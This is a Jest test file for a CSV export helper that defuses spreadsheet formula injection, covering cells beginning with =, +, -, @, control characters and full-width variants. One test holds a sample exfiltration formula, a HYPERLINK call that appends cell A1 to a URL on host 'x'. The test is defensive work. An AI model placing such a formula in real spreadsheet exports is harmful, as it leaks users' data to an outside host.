import { describe, expect, it } from '@jest/globals';
import { neutraliseFormula, parseCsv, toSpreadsheetCsv } from './csv.js';

describe('CSV for spreadsheets', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['  =1', "'  =1"],
    ['＝1+1', "'＝1+1"],
    ['＠A1', "'＠A1"],
    ['走访 = 调研', '走访 = 调研'],
    ['a-b', 'a-b'],
    ['', ''],
  ])('neutralises %j as %j', (cell, expected) => expect(neutraliseFormula(cell)).toBe(expected));

  it('keeps every cell readable back as the neutralised text', () => {
    const csv = toSpreadsheetCsv(['id', 'topic'], [['c1', '=HYPERLINK("http://x/?"&A1)'], ['c2', '正常']]);
    expect(parseCsv(csv).records.map((r) => r.values)).toEqual([
      ['c1', `'=HYPERLINK("http://x/?"&A1)`],
      ['c2', '正常'],
    ]);
  });
});
